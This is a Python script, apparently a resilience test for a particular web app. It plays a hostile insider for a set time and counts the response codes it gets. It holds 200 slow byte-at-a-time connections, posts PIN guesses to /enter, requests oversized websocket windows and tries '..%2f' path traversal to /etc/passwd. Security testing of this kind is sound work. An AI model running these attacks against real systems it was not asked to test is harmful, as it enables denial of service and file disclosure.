"""Somebody in the hall's network who means harm: `python network_attack.py URL SECONDS`.

Holds two hundred connections, sends others a byte at a time, guesses PINs, asks for windows it may not have and for
files that are not there; forty tries a second in all. It prints how many of each answer it got.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
from collections import Counter
from contextlib import suppress
from itertools import cycle
from urllib.parse import urlsplit

import aiohttp

HELD = 200
PAUSE_S = 1 / 40


async def attack(url: str, seconds: float) -> Counter[str]:
    """For so long; how often each kind of answer came."""
    answers: Counter[str] = Counter()
    host, port = urlsplit(url).hostname or "", urlsplit(url).port or 80
    until = time.monotonic() + seconds
    held = [asyncio.create_task(_hold(host, port, until, answers)) for _ in range(HELD)]
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(force_close=True)) as browser:
        for kind in cycle((_guess, _ask_for_window, _climb)):
            if time.monotonic() > until:
                break
            with suppress(aiohttp.ClientError, TimeoutError):
                answers[f"{kind.__name__} {await kind(browser, url)}"] += 1
            await asyncio.sleep(PAUSE_S)
    for task in held:
        task.cancel()
    await asyncio.gather(*held, return_exceptions=True)
    return answers


async def _hold(host: str, port: int, until: float, answers: Counter[str]) -> None:
    """A request that is never whole: a byte a second."""
    while time.monotonic() < until:
        try:
            _reader, writer = await asyncio.open_connection(host, port)
            for byte in b"GET / HTTP/1.1\r\nHost: " + b"x" * 100:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        except OSError:
            answers["hung up"] += 1
            await asyncio.sleep(0.5)


async def _guess(browser: aiohttp.ClientSession, url: str) -> int:
    async with browser.post(f"{url}/enter", data={"pin": "00000000"}, headers={"Origin": url}) as answer:
        return answer.status


async def _ask_for_window(browser: aiohttp.ClientSession, url: str) -> int:
    try:
        async with browser.ws_connect(f"{url}/ws?width=100000&height=20000", headers={"Origin": url}):
            return 101
    except aiohttp.WSServerHandshakeError as refused:
        return refused.status


async def _climb(browser: aiohttp.ClientSession, url: str) -> int:
    async with browser.get(f"{url}/static/..%2f..%2f..%2fetc%2fpasswd") as answer:
        return answer.status


if __name__ == "__main__":
    print(json.dumps(asyncio.run(attack(sys.argv[1], float(sys.argv[2])))))
